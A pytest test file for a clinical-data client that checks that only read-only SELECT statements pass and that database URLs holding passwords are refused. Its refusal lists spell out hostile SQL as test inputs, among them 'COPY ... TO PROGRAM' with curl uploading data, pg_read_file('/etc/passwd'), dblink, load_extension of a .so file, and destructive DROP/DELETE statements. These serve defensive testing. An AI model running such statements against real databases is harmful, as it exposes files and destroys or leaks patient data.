"""A statement may read and nothing else; an address holds no password. Rules alone: nothing is connected."""

from __future__ import annotations

import pytest

from fedward_client.cohorts.statement import dialect_of, is_ordered, refuse_secrets, require_select
from fedward_common.errors import LocalDataError

READING = [
    "SELECT age, outcome FROM visits",
    "SELECT age FROM visits;",
    "SELECT v.age, p.sex FROM visits v LEFT JOIN people p USING (patient) WHERE v.age > 18 ORDER BY v.at DESC LIMIT 9",
    "WITH last AS (SELECT patient, max(at) AS at FROM visits GROUP BY 1) SELECT * FROM visits JOIN last USING (at)",
    "SELECT age FROM visits UNION ALL SELECT age FROM old_visits",
    "SELECT coalesce(a, 0), round(b, 1), CASE WHEN c = 'yes' THEN 1 ELSE 0 END, CAST(d AS text) FROM visits",
    "SELECT count(*) OVER (PARTITION BY patient ORDER BY at), avg(x) FILTER (WHERE y > 0) OVER () FROM visits",
    "SELECT a /* a note; DROP TABLE visits */ FROM visits -- another; DELETE FROM visits",
    "SELECT ';' || a || '--' FROM visits WHERE b = 'it''s; DELETE'",
]
WRITING = [
    ("DROP TABLE visits", "no SELECT"),
    ("DELETE FROM visits", "no SELECT"),
    ("UPDATE visits SET age = 1", "no SELECT"),
    ("INSERT INTO visits SELECT * FROM visits", "no SELECT"),
    ("CREATE TABLE copy AS SELECT * FROM visits", "no SELECT"),
    ("TRUNCATE visits", "no SELECT"),
    ("GRANT ALL ON visits TO public", "no SELECT"),
    ("SET default_transaction_read_only = off", "no SELECT"),
    ("BEGIN", "no SELECT"),
    ("VALUES (1)", "no SELECT"),
    ("EXPLAIN ANALYZE SELECT 1", "no SELECT"),
    ("SELECT 1; SELECT 2", "2 statements"),
    ("SELECT age FROM visits; DROP TABLE visits", "2 statements"),
    ("", "0 statements"),
    ("-- nothing", "0 statements"),
    ("SELECT FROM WHERE (", "cannot be parsed"),
    ("SELECT 'open", "cannot be parsed"),
    ("WITH gone AS (DELETE FROM visits RETURNING *) SELECT * FROM gone", "writes"),
    ("WITH new AS (INSERT INTO log VALUES (1) RETURNING *) SELECT * FROM new", "writes"),
    ("SELECT age FROM visits WHERE :patient = patient", "placeholder"),
    ("SELECT age FROM visits WHERE patient = ?", "placeholder"),
]
POSTGRES = [
    ("COPY visits TO PROGRAM 'curl -T - http://example'", "no SELECT"),
    ("CALL purge()", "no SELECT"),
    ("DO $$ BEGIN DELETE FROM visits; END $$", "no SELECT"),
    ("SELECT * INTO copy FROM visits", "writes"),
    ("SELECT age FROM visits FOR UPDATE", "locks"),
    ("SELECT * FROM (SELECT age FROM visits FOR SHARE) v", "locks"),
    ("SELECT age FROM visits WHERE patient = $1", "placeholder"),
    ("SELECT pg_read_file('/etc/passwd')", "pg_read_file"),
    ("SELECT pg_catalog.pg_sleep(9)", "pg_sleep"),
    ("SELECT set_config('transaction_read_only', 'off', false)", "set_config"),
    ("SELECT * FROM dblink('host=elsewhere', 'DELETE FROM visits') AS t(a int)", "dblink"),
    ("SELECT lo_export(1, '/tmp/x') FROM visits", "lo_export"),
    ("SELECT nextval('numbers')", "nextval"),
    ("SELECT query_to_xml('DELETE FROM visits', true, true, '')", "query_to_xml"),
    ("SELECT age FROM visits WHERE age > (SELECT my_own_function())", "my_own_function"),
]
SQLITE = [
    ("ATTACH DATABASE '/tmp/x.db' AS other", "no SELECT"),
    ("PRAGMA writable_schema = 1", "no SELECT"),
    ("SELECT load_extension('/tmp/evil.so')", "load_extension"),
    ("SELECT writefile('/tmp/x', 'y')", "writefile"),
]


@pytest.mark.parametrize("dialect", ["postgres", "sqlite"])
@pytest.mark.parametrize("sql", READING)
def test_what_only_reads_passes(sql: str, dialect: str) -> None:
    require_select(sql, dialect)


@pytest.mark.parametrize(
    ("dialect", "sql", "words"),
    [(dialect, *case) for dialect in ("postgres", "sqlite") for case in WRITING]
    + [("postgres", *case) for case in POSTGRES]
    + [("sqlite", *case) for case in SQLITE],
)
def test_what_does_more_than_read_is_refused(dialect: str, sql: str, words: str) -> None:
    with pytest.raises(LocalDataError, match=words) as caught:
        require_select(sql, dialect)

    assert caught.value.message.startswith("the SQL is refused: ")
    assert caught.value.remedy


def test_functions_of_dates_and_texts_pass() -> None:
    require_select(
        "SELECT age(born), date_part('year', at), to_date(t, 'YYYY'), concat_ws(' ', a, b) FROM v", "postgres"
    )
    require_select("SELECT julianday(at) - julianday(born), printf('%d', a), instr(a, 'x') FROM v", "sqlite")


def test_statement_of_a_thousand_brackets_is_an_error_and_no_crash() -> None:
    with pytest.raises(LocalDataError, match="cannot be parsed"):
        require_select("SELECT " + "(" * 5000 + "1" + ")" * 5000, "postgres")


def test_nothing_that_the_parser_says_reaches_the_screen(capfd: pytest.CaptureFixture[str]) -> None:
    """It would quote the statement, and with it an identifier in a WHERE."""
    with pytest.raises(LocalDataError) as caught:
        require_select("EXPLAIN SELECT a FROM visits WHERE patient = 'canary-4711'", "postgres")

    out, err = capfd.readouterr()
    assert "canary" not in out + err + caught.value.diagnostics()


@pytest.mark.parametrize(
    ("sql", "ordered"),
    [
        ("SELECT a FROM t ORDER BY a", True),
        ("SELECT a FROM t", False),
        ("SELECT a FROM (SELECT a FROM t ORDER BY a) x", False),
        ("SELECT a FROM t UNION SELECT b FROM u ORDER BY 1", True),
        ("SELECT row_number() OVER (ORDER BY a) FROM t", False),
    ],
)
def test_a_statement_is_ordered_by_its_own_end_alone(sql: str, ordered: bool) -> None:  # noqa: FBT001  (an expectation)
    assert is_ordered(sql, "postgres") is ordered


@pytest.mark.parametrize(
    ("database", "dialect"),
    [
        ("postgresql://reader@db/clinic", "postgres"),
        ("postgresql+psycopg://reader@db/clinic", "postgres"),
        ("sqlite:////srv/clinic.db", "sqlite"),
        ("SQLite:////srv/clinic.db", "sqlite"),
    ],
)
def test_databases_whose_connection_can_be_kept_from_writing(database: str, dialect: str) -> None:
    assert dialect_of(database) == dialect


@pytest.mark.parametrize(
    "database", ["mysql://u@h/d", "mssql+pyodbc://u@h/d", "oracle://u@h/d", "clinic.db", "", "://"]
)
def test_other_databases_are_refused_with_a_way_out(database: str) -> None:
    with pytest.raises(LocalDataError, match="neither PostgreSQL nor SQLite") as caught:
        dialect_of(database)

    assert "Parquet" in caught.value.remedy


@pytest.mark.parametrize(
    "database",
    [
        "postgresql://reader:hush-4711@db/clinic",
        "postgresql://reader:@db/clinic",
        "postgresql://reader@db/clinic?password=hush-4711",
        "postgresql://reader@db/clinic?PASSFILE=/hush-4711",
        "postgresql://reader@db/clinic?sslpassword=hush-4711",
    ],
)
def test_address_with_a_password_is_refused_and_not_repeated(database: str) -> None:
    with pytest.raises(LocalDataError, match="holds a password") as caught:
        refuse_secrets(database)

    assert "4711" not in caught.value.diagnostics()
    assert caught.value.__cause__ is None


def test_address_that_is_none_is_refused_and_not_repeated() -> None:
    with pytest.raises(LocalDataError, match="no URL") as caught:
        refuse_secrets("postgresql//hush-4711")

    assert "4711" not in caught.value.diagnostics()


@pytest.mark.parametrize("database", ["postgresql://reader@db:5433/clinic?sslmode=verify-full", "sqlite:////srv/c.db"])
def test_address_without_a_password_passes(database: str) -> None:
    refuse_secrets(database)
